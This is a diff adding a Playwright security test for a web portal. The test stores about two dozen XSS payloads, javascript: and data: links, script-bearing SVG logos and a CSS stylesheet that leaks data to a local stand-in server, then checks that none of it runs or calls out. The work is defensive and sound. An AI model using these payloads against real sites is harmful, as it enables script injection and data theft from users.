@@ -1,0 +1,186 @@
+// What an admin may store is shown, and none of it runs in a reader's browser, calls another house, or hides the way out.
+import { spawnSync } from "node:child_process";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import type { Page } from "@playwright/test";
+import { demoTemplate } from "./demo-data.ts";
+import { expect, test } from "./journey.ts";
+import { type Portal, root, startPortal } from "./portal.ts";
+
+/** Each would say `alert` if it ran. */
+const PAYLOADS = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)></svg>",
+  "<svg><script>alert(1)</script></svg>",
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+  "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
+  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+  "<iframe src='javascript:alert(1)'></iframe>",
+  "<object data='javascript:alert(1)'></object>",
+  "<embed src='javascript:alert(1)'>",
+  "<details open ontoggle=alert(1)><summary>x</summary></details>",
+  "<video><source onerror=alert(1)></video>",
+  "<input autofocus onfocus=alert(1)>",
+  "<body onload=alert(1)>",
+  "<form action='javascript:alert(1)'><button id=go>x</button></form>",
+  "<a id=bad href='javascript:alert(1)'>bad link</a>",
+  "<a id=tab href='java\tscript:alert(1)'>bad link</a>",
+  "<base href='https://example.invalid/'>",
+  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+  "<link rel=stylesheet href='data:text/css,*{}'>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+  "<p style='background:url(javascript:alert(1))'>x</p>",
+  "<div is=x onclick=alert(1) class=trap>click me</div>",
+];
+const TEXT = "<img src=x onerror=alert(1)>{{constructor.constructor('alert(1)')()}}";
+
+/** Links that run something, and attributes that do. */
+const ACTING = '[href*="script:" i], [href^="data:" i], [onerror], [onload], [onclick], [style*="javascript"]';
+
+/** Calls the other house in every way a stylesheet knows. */
+const spying = (other: string) => `
+  @import url("${other}/import");
+  html { outline: 7px solid rgb(1, 2, 3); background-image: image-set("${other}/set" 1x), url("${other}/url"); }
+  @font-face { font-family: spy; src: url("${other}/font"); }
+  body { font-family: spy; cursor: url("${other}/cursor"), auto; list-style: url("${other}/list"); }
+  a[href^="#"] { background: url("${other}/attribute"); }
+  input[value^="a"] { border-image: url("${other}/value"); }
+  } * { mask-image: url("${other}/outside"); } {`;
+
+const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="60" onload="alert(1)">
+  <script>alert(1)</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="alert(1)"/></foreignObject>
+  <rect width="200" height="60" fill="teal"/></svg>`;
+
+/** Stores past every check that saving has, as an old version or a hand in the database may have. */
+function store(
+  portal: Portal,
+  documents: [kind: string, key: string, document: object][],
+  files: [string, string, string][],
+) {
+  const script = `
+    import { openDataFolder } from "./dist/platform/data-folder.js";
+    import { systemClock } from "./dist/platform/clock.js";
+    import { createPortalDocuments } from "./dist/modules/settings/settings.service.js";
+    import { createPortalFiles } from "./dist/modules/settings/portal-files.service.js";
+    const { db, blobs } = openDataFolder(process.argv[1]);
+    const given = JSON.parse(process.argv[2]);
+    const settings = createPortalDocuments(db, systemClock);
+    for (const document of given.documents) await settings.putDocument(...document);
+    const portalFiles = createPortalFiles(db, blobs, systemClock);
+    for (const [name, mime, text] of given.files) await portalFiles.putPortalFile(name, Buffer.from(text), mime);
+    await db.close();`;
+  const { status, stderr } = spawnSync(
+    process.execPath,
+    ["--input-type=module", "-e", script, portal.dataFolder, JSON.stringify({ documents, files })],
+    { cwd: join(root, "apps/api"), encoding: "utf8" },
+  );
+  expect(status, stderr).toBe(0);
+}
+
+const external = (link: string) => ({ linkDirection: "External", link, column: "Left" });
+
+test.describe("what an admin stored with bad intent @desktop", () => {
+  let portal: Portal;
+  let other: Server;
+  const calls: string[] = [];
+  const dialogs: string[] = [];
+
+  test.beforeAll(async () => {
+    other = createServer((request, response) => {
+      calls.push(request.url ?? "");
+      response.end();
+    });
+    await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
+    const house = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+    portal = await startPortal({ template: demoTemplate });
+    const stored = (await (await fetch(`${portal.address}/api/config/global`)).json()) as Record<string, object>;
+    store(
+      portal,
+      [
+        [
+          "global",
+          "",
+          {
+            ...stored,
+            global: { ...stored.global, website_title: TEXT },
+            footer: ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "java\nscript:alert(1)"].map(
+              (link, position) => ({
+                translation: `Link ${position}`,
+                is_linkable: true,
+                position,
+                languages: { de: external(link), en: external(link) },
+              }),
+            ),
+            login: { ...stored.login, register: { show_button: true, links: { de: external("javascript:alert(1)") } } },
+          },
+        ],
+        [
+          "translations",
+          "de",
+          { global: { footer: { label: TEXT } }, views: { dashboard: { hero: { header: TEXT } } } },
+        ],
+        [
+          "custom_html",
+          "de",
+          { pages: PAYLOADS.map((html, n) => ({ key: `page-${n}`, title: TEXT, html: `${html}<p>end ${n}</p>` })) },
+        ],
+      ],
+      [
+        ["style", "text/css", spying(house)],
+        ["dashboardLogo", "image/svg+xml", LOGO],
+        ["searchLogo", "image/svg+xml", LOGO],
+      ],
+    );
+  });
+  test.afterAll(async () => {
+    await portal.stop();
+    other.close();
+  });
+
+  async function open(page: Page, path: string): Promise<void> {
+    await page.goto(portal.address + path);
+    await page.waitForLoadState("networkidle");
+  }
+
+  test("does not run, calls nobody, and can be left out", async ({ page, faults }) => {
+    page.on("dialog", async (dialog) => {
+      dialogs.push(dialog.message());
+      await dialog.dismiss();
+    });
+    await test.step("on every kind of page", async () => {
+      for (const path of ["/#/", "/#/search/*", "/#/login", "/#/logout"]) await open(page, path);
+      await expect(page.getByRole("contentinfo").getByText("Link 0")).toBeVisible();
+      await expect(page.locator(ACTING)).toHaveCount(0);
+    });
+    await test.step("on pages of its own", async () => {
+      for (const n of PAYLOADS.keys()) {
+        await open(page, `/#/custom/page-${n}`);
+        const article = page.getByRole("article");
+        await expect(article.getByRole("heading", { level: 1 })).toHaveText(TEXT);
+        await expect(
+          article.locator(`${ACTING}, script, iframe, object, embed, form, base, meta, link, style`),
+        ).toHaveCount(0);
+        for (const trap of await article.getByText(/bad link|click me/).all()) await trap.click();
+        await expect(page).toHaveURL(new RegExp(`#/custom/page-${n}$`));
+      }
+    });
+    await test.step("in files that are opened by themselves", async () => {
+      for (const file of ["dashboardLogo", "style"]) await open(page, `/api/config/${file}`);
+    });
+    await test.step("the stylesheet holds, until the address leaves it out", async () => {
+      await open(page, "/#/");
+      await expect(page.locator("html")).toHaveCSS("outline", "rgb(1, 2, 3) solid 7px");
+      await open(page, "/?safe=1#/");
+      await expect(page.locator("html")).not.toHaveCSS("outline", "rgb(1, 2, 3) solid 7px");
+    });
+    expect(dialogs).toEqual([]);
+    expect(calls).toEqual([]);
+    // The browser says what the policy refused; that it had to is what was stored here.
+    const own = faults.filter((fault) => !/Content Security Policy|blocked/i.test(fault));
+    faults.length = 0;
+    expect(own).toEqual([]);
+  });
+});
